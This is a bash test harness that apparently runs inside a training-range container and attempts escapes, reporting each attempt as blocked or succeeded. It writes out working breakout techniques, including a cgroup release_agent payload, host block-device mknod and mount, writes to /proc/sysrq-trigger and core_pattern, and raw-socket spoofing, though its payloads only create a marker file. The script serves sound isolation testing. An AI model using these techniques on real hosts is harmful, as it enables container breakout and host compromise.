#!/bin/bash
# Escape and reach attempts, run as root inside a range host by DockerBoundaryIT. Each attempt
# prints one line:  RESULT <attempt> <blocked|SUCCEEDED> <detail>
# Only benign proofs: a success creates a marker file in $MARKER_DIR on the host machine (a
# temporary directory of the test), which the test looks for and removes.
#   MARKER_DIR    the test's directory on the host machine
#   DATA_ROOT     where the engine keeps container filesystems on the host machine
#   TCP_TARGETS   "name=ip:port ..." listeners outside this range (must not answer)
#   ROUTE_VIA     "cidr=gateway ..." routes through the engine's gateways to try (routers only)
#   SPOOF         "ip:port source" a UDP datagram with a forged source (raw sockets only)
set -u
work="$(mktemp -d /tmp/attempt.XXXXXX)"
result() { printf 'RESULT %s %s %s\n' "$1" "$2" "$(echo "${3:-}" | tr '\n' ' ' | cut -c1-300)"; }
blocked_unless() { # name, command...: SUCCEEDED when the command exits 0
  local name="$1"; shift
  local out; out="$("$@" 2>&1)"
  if [ $? -eq 0 ]; then result "$name" SUCCEEDED "$* -> ${out:-ok}"; else result "$name" blocked "$out"; fi
}

# The path of this container's root filesystem on the host machine, as an escape would use it.
host_root() {
  local root opts
  root="$(awk '$5 == "/" {print $4; exit}' /proc/self/mountinfo)"
  opts="$(awk '$5 == "/" {print; exit}' /proc/self/mountinfo)"
  case "$opts" in
    *upperdir=*) echo "$opts" | sed -n 's/.*upperdir=\([^,]*\).*/\1/p' ;;
    *) echo "${DATA_ROOT%/}$root" ;;
  esac
}
payload() { # name: a script that proves it ran on the host machine
  cat >"/enshu-payload-$1.sh" <<P
#!/bin/sh
touch "$MARKER_DIR/escaped-$1"
P
  chmod 0755 "/enshu-payload-$1.sh"
  echo "$(host_root)/enshu-payload-$1.sh"
}

# 1. cgroup v1: mount a hierarchy and set its release_agent to a script of this container.
d="$work/cg"; mkdir -p "$d"
if out="$(mount -t cgroup -o memory cgroup "$d" 2>&1)"; then
  mkdir -p "$d/enshu-x"; echo 1 >"$d/enshu-x/notify_on_release"
  payload release_agent >"$d/release_agent" 2>/dev/null
  sh -c "echo \$\$ >$d/enshu-x/cgroup.procs" 2>/dev/null
  result cgroup-release-agent SUCCEEDED "mounted a cgroup v1 hierarchy and set release_agent"
  umount "$d" 2>/dev/null
else
  result cgroup-release-agent blocked "$out"
fi
# ... and the hierarchies the engine mounted.
found=0
for f in /sys/fs/cgroup/*/release_agent; do
  [ -e "$f" ] || continue; found=1
  if (payload release_agent_existing >"$f") 2>/dev/null; then result cgroup-release-agent-existing SUCCEEDED "$f written"; found=2; break; fi
done
[ "$found" = 2 ] || result cgroup-release-agent-existing blocked "no writable release_agent (found=$found)"
ok=blocked; for f in /sys/fs/cgroup/*/notify_on_release; do
  [ -e "$f" ] || continue
  if (echo 1 >"$f") 2>/dev/null; then ok=SUCCEEDED; break; fi
done
result cgroup-notify-on-release "$ok" "$f"
# The same from a new user namespace (where root holds every capability over its namespaces).
blocked_unless cgroup-in-user-namespace unshare -Urm sh -c "mkdir -p $work/u && mount -t cgroup -o memory cgroup $work/u"

# 2. Mounting filesystems and the host's devices.
mkdir -p "$work/m"
blocked_unless mount-tmpfs mount -t tmpfs enshu "$work/m"
umount "$work/m" 2>/dev/null
blocked_unless mount-proc mount -t proc proc "$work/m"
umount "$work/m" 2>/dev/null
dev="$(awk 'NR > 2 && $4 !~ /[0-9]$/ {print $4; exit}' /proc/partitions)"; dev="${dev:-vda}"
majmin="$(cat "/sys/class/block/$dev/dev" 2>/dev/null || echo 253:0)"
blocked_unless mknod-block-device mknod "$work/blk" b "${majmin%%:*}" "${majmin##*:}"
if [ -b "$work/blk" ]; then
  blocked_unless mount-host-device mount -o ro "$work/blk" "$work/m"
  umount "$work/m" 2>/dev/null
  blocked_unless read-host-device dd if="$work/blk" of=/dev/null bs=512 count=1
else
  result mount-host-device blocked "no block device node ($dev $majmin)"
  result read-host-device blocked "no block device node"
fi

# 3. /proc and /sys read-write.
blocked_unless remount-proc-sys mount -o remount,rw /proc/sys
blocked_unless remount-sys mount -o remount,rw /sys
blocked_unless enable-ipv6 sh -c 'echo 0 >/proc/sys/net/ipv6/conf/all/disable_ipv6'
blocked_unless write-sysrq-trigger sh -c 'echo h >/proc/sysrq-trigger'
blocked_unless write-core-pattern sh -c 'cat /proc/sys/kernel/core_pattern >/proc/sys/kernel/core_pattern'

# 4. Kernel modules: the capability check comes first, so EPERM means refused.
out="$(python3 - <<'PY' 2>&1
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.syscall(175, None, 0, b"")  # init_module
e = ctypes.get_errno()
print(r, e, os.strerror(e))
PY
)"
bnd="$(awk '/^CapBnd:/ {print $2}' /proc/self/status)"
if [ "$(echo "$out" | awk '{print $2}')" = 1 ]; then result load-kernel-module blocked "init_module: $out"
elif (( (0x$bnd >> 16) & 1 )); then result load-kernel-module SUCCEEDED "CAP_SYS_MODULE held; init_module: $out"
else result load-kernel-module blocked "no CAP_SYS_MODULE; init_module: $out"; fi

# 5. What the host is given: capabilities and privileges.
eff="$(awk '/^CapEff:/ {print $2}' /proc/self/status)"
bad=""
for c in 2:DAC_READ_SEARCH 16:SYS_MODULE 17:SYS_RAWIO 19:SYS_PTRACE 21:SYS_ADMIN 22:SYS_BOOT 25:SYS_TIME 27:MKNOD 33:MAC_ADMIN 38:PERFMON 39:BPF; do
  (( (0x$bnd >> ${c%%:*}) & 1 )) && bad="$bad ${c#*:}"
done
if [ "$ENSHU_ROLE" != firewall ] && (( (0x$bnd >> 12) & 1 )); then bad="$bad NET_ADMIN"; fi
[ -z "$bad" ] && result dangerous-capabilities blocked "CapBnd=$bnd CapEff=$eff" || result dangerous-capabilities SUCCEEDED "holds$bad (CapBnd=$bnd)"
nnp="$(awk '/^NoNewPrivs:/ {print $2}' /proc/self/status)"
[ "$nnp" = 1 ] && result new-privileges blocked "NoNewPrivs=1" || result new-privileges SUCCEEDED "NoNewPrivs=$nnp"
sock=""; for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /var/run/libvirt/libvirt-sock; do [ -e "$s" ] && sock="$sock $s"; done
[ -z "$sock" ] && result engine-socket blocked "none" || result engine-socket SUCCEEDED "present:$sock"

# 6. Routes through the engine's gateways (only a router can set them).
for spec in ${ROUTE_VIA:-}; do
  cidr="${spec%%=*}"; gw="${spec#*=}"
  if out="$(ip route add "$cidr" via "$gw" 2>&1)"; then
    result "route-via-gateway" blocked "route $cidr via $gw added (reach attempts below tell whether it leads anywhere)"
  else
    result "route-via-gateway" blocked "$out"
  fi
done

# 7. Listeners outside the range: the host machine, other teams, another network.
# All at once: a dropped connection only ends at its timeout.
n=0
for t in ${TCP_TARGETS:-}; do
  n=$((n + 1))
  (
    name="${t%%=*}"; addr="${t#*=}"; ip="${addr%:*}"; port="${addr##*:}"; ip="${ip#[}"; ip="${ip%]}"
    if out="$(timeout 4 bash -c "exec 3<>/dev/tcp/$ip/$port" 2>&1)"; then
      result "reach-$name" SUCCEEDED "connected to $addr"
    else
      result "reach-$name" blocked "$addr: ${out:-timed out}"
    fi
  ) >"$work/reach.$n" &
done
wait
cat "$work"/reach.* 2>/dev/null

# 8. A datagram with a forged source address (raw sockets).
if [ -n "${SPOOF:-}" ]; then
  read -r dst src <<<"$SPOOF"
  out="$(python3 - "$dst" "$src" <<'PY' 2>&1
import socket, struct, sys
dst, port = sys.argv[1].rsplit(":", 1); src = sys.argv[2]
payload = b"enshu-spoof"
udp = struct.pack("!HHHH", 40000, int(port), 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 socket.inet_aton(src), socket.inet_aton(dst))
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(3):
    s.sendto(ip + udp, (dst, 0))
print("sent")
PY
)"
  result spoofed-source blocked "sent from $src to $dst: $out (the listener tells whether it arrived)"
fi

# 9. The engine's embedded resolver: it must not forward to the host machine's resolvers.
if [ -n "${DNS_PROBE:-}" ]; then
  out="$(python3 - "$DNS_PROBE" <<'PY' 2>&1
import random, socket, struct, sys
name = sys.argv[1]
q = struct.pack("!HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(4)
s.sendto(q, ("127.0.0.11", 53))
try:
    r = s.recv(512); print("answered rcode", r[3] & 0xF, "answers", struct.unpack("!H", r[6:8])[0])
except socket.timeout:
    print("no answer")
PY
)"
  result embedded-dns blocked "asked 127.0.0.11 for $DNS_PROBE: $out (the range's DNS log tells where it went)"
fi

rm -rf "$work" /enshu-payload-*.sh
